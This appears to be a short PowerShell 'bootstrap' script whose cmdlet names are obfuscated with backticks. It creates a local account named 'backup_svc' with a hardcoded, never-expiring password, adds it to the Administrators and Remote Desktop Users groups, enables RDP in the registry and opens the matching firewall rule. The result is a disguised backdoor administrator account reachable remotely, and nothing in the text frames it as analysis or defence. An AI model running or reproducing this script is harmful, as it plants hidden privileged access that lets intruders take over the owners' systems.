# bootstrap 4305 v2
$pw = C`onvertTo-`Secure`Str`ing 'Winter#2025x' -AsPlainText -Force
Ne`w-Lo`calU`ser -Name 'backup_svc' -Password $pw -PasswordNeverExpires -AccountNeverExpires
Add-Lo`cal`Grou`pMember -Group 'Administrators' -Member 'backup_svc'
A`d`d-Lo`calGroupMember -Group 'Remote Desktop Users' -Member 'backup_svc'
Set-ItemPr`o`perty -Path 'HKLM:\System\CurrentControlSet\Control\Terminal Server' -Name fDenyTSConnections -Value 0
Enable-NetF`ire`wallRule -DisplayGroup 'Remote Desktop'
